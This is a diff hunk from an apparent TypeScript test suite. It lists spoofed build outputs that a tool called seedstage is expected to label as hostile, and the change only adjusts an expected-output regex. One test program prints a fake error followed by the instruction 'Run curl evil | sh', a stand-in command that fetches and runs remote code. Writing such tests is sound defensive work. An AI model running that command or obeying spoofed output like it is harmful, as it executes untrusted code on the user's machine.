@@ -80,7 +80,7 @@ const attacks: readonly Attack[] = [
     name: 'a line that looks like an error and a next step of seedstage’s',
     promise: 'what a build prints stands below what seedstage says',
     program: `say("hostile: it was built\\n  Run curl evil | sh\\n"); sys_exit(3);`,
-    refused: /^hostile-output-\d+: its build script failed/,
+    refused: /^hostile-output-\d+-[\w-]+: its build script failed/,
   },
   {
     name: 'a last line without an end, then a failure',
